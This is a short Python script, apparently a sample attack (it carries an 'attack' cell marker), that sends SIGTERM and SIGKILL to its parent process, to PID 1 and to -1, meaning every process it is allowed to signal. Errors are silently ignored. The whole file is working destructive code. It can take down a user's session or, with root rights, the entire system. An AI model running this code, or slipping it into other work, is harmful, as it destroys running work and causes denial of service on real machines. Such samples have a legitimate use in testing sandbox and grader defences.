# Ends whatever it may.
# %% attack
import os
import signal

for number in (signal.SIGTERM, signal.SIGKILL):
    for process in (os.getppid(), 1, -1):
        try:
            os.kill(process, number)
        except OSError:
            pass
